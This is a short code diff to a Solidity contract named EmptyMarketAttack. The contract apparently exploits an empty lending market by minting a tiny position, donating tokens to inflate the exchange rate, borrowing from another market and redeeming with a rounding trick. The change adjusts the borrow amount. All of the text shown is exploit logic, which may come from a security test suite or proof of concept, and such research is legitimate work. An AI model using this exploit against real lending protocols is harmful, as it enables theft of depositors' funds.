@@ -143,7 +143,8 @@ contract EmptyMarketAttack is Attack {
         empty.mint(400_000_000);
         uint256 gift = loanToken.balanceOf(address(this));
         loanToken.transfer(address(empty), gift);
-        busy.borrow(loot0.balanceOf(address(busy)));
+        uint256 cash = loot0.balanceOf(address(busy));
+        busy.borrow(cash < gift * 3 / 4 ? cash : gift * 3 / 4);
         // One of the two shares pays for a little less than both.
         uint256 rate = empty.exchangeRateStored();
         empty.redeemUnderlying(rate * 2 / 1e18 - 1);
